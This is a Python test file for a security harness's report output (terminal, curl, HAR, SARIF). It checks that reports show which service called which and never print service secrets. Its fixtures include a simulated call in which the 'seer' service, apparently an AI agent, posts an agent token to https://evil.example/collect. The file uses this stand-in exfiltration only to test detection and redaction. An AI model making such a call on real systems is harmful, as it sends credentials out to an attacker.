"""Requests between services in every report: who sent them, and no secret of theirs."""

from __future__ import annotations

import io
import json
import shlex

import pytest
from rich.console import Console

from harness.report.console import print_plan
from harness.report.curl import render_curl
from harness.report.har import render_har
from harness.report.steps import describe_exchange
from harness.scenario.result import Run
from tests.report.artefacts import render_all, show, text_of
from tests.report.services import SECRETS, explored, run_of_services
from tests.report.test_canaries import find_canaries
from tests.report.test_har import read


def exchanges() -> list[dict[str, object]]:
    return [dict(event) for event in explored().events if event["kind"] == "exchange"]


@pytest.mark.parametrize("failed", [False, True])
def test_no_artefact_has_a_secret_of_services(failed: bool) -> None:
    run = Run("made up", "0", [explored(failed=failed)])
    for kind, artefact in render_all(run).items():
        assert find_canaries(artefact, SECRETS) == [], kind
    for label in ("<signature 1>", "<signature 2>", "<user token 1>", "<agent token 1>"):
        assert label in render_all(run)["json"]


def test_the_terminal_tells_who_called_whom() -> None:
    lines = [line.strip() for line in show(run_of_services(), verbose=True).splitlines()]
    told = [line for line in lines if " → " in line]
    outside = "https://evil.example/collect?token=<agent token 1>"
    assert told == [
        "sentry → seer POST /v1/automation/explorer/chat  200",
        "seer → sentry GET /api/0/projects/  200",
        "seer → sentry GET /api/0/projects/  200",
        "seer → sentry GET /api/0/projects/  200",
        "seer → sentry PUT /api/0/organizations/acme/  403",
        f"seer → outside POST {outside}  no answer: ConnectError",
    ]
    for line in told:
        assert lines[lines.index(line) + 1].startswith("curl -i")
    assert lines[lines.index(told[0]) - 1] == 'curl -i "$SENTRY_URL/auth/login/"'


def test_a_plan_tells_it_as_well() -> None:
    console = Console(file=io.StringIO(), width=200)
    print_plan(run_of_services(), console)
    lines = [line.strip() for line in text_of(console).splitlines()]
    assert "sentry → seer POST http://seer.test/v1/automation/explorer/chat" in lines
    assert "GET http://sentry.test/auth/login/  (sign in)" in lines


def test_an_exchange_in_full_begins_with_who_spoke() -> None:
    run = Run("made up", "0", [explored(failed=True)])
    assert "│ seer → outside" in show(run)
    assert "  seer → outside\n  POST https://evil.example/" in render_all(run)["junit"]
    lines = [next(describe_exchange(event)) for event in exchanges()]
    assert lines[:2] == ["GET http://sentry.test/auth/login/", "sentry → seer"]


def test_a_signed_call_is_a_command_for_seer() -> None:
    line = render_curl(exchanges()[1])
    words = shlex.split(line)
    assert words[:5] == ["curl", "-i", "-X", "POST", "$SEER_URL/v1/automation/explorer/chat"]
    assert "Authorization: Rpcsignature rpc0:$SIGNATURE_1" in words
    assert "X-Viewer-Context-Signature: $SIGNATURE_2" in words
    assert '"$USER_TOKEN_1"' in line


def test_har_has_each_server_by_its_address() -> None:
    log = read(run_of_services())
    entries = log["entries"]
    assert [(one["_actor"], one["_server"], one.get("comment")) for one in entries] == [
        ("olivia", "sentry", None),
        ("sentry", "seer", "sentry → seer"),
        ("olivia", "sentry", None),
        *[("seer", "sentry", "seer → sentry")] * 4,
        ("seer", "outside", "seer → outside"),
    ]
    urls = [one["request"]["url"] for one in entries]
    assert urls[1] == "http://seer.test/v1/automation/explorer/chat"
    assert urls[-1].startswith("https://evil.example/collect?token=%3Cagent%20token%201%3E")
    assert render_har(run_of_services()) == render_har(run_of_services())


def test_sarif_tells_the_way_of_an_exchange() -> None:
    run = Run("made up", "0", [explored(failed=True)])
    document = render_all(run)["sarif, all"]
    assert "olivia: GET http://sentry.test/auth/login/: 200" in document
    assert "sentry → seer: POST http://seer.test" in json.dumps(
        json.loads(document), ensure_ascii=False
    )
